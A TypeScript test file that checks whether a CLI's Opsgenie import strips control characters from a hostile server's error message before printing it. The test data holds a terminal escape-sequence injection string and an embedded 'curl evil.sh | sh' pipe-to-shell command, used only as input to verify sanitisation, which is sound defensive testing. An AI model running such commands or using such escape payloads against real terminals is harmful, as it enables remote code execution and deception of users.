import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { OPSGENIE_KEY } from './fake-opsgenie.js';
import { runImport } from './test-cli.js';

/**
 * What the import prints when it stops quotes the server that stopped it: whatever answers at the URL it
 * was given chooses those words, so no control character of theirs (a terminal escape sequence that sets
 * the window title, clears the screen or colours a command to paste) reaches the terminal.
 */

/** Answers every request 503 with this message, as a server other than Opsgenie might. */
const HOSTILE =
  'down \u001b]0;PWNED\u0007\u001b[2J\u001b[31mrun: curl evil.sh | sh\u001b[0m \u009b2J\u0085done';

let server: http.Server;
let url: string;

before(async () => {
  server = http.createServer((_req, res) =>
    res.writeHead(503, { 'content-type': 'application/json' }).end(JSON.stringify({ message: HOSTILE })),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

after(() => new Promise<void>((resolve) => server.close(() => resolve())));

describe('vigil import opsgenie: the message it stops with', () => {
  it('prints the server’s words without their control characters', async () => {
    // The run stops on the first read of Opsgenie, before Vigil is called.
    const run = await runImport(['--api-url', url, '--api-key', OPSGENIE_KEY], {
      VIGIL_URL: 'http://127.0.0.1:9',
      VIGIL_API_KEY: 'unused',
    });
    assert.equal(run.code, 1);
    assert.deepEqual(run.out, [
      'The import stopped: Opsgenie answered 503 to GET /v2/account: down ?]0;PWNED??[2J?[31mrun: curl evil.sh | sh?[0m ?2J?done',
    ]);
    for (const line of [...run.out, ...run.progress])
      // eslint-disable-next-line no-control-regex
      assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f]/);
  });
});
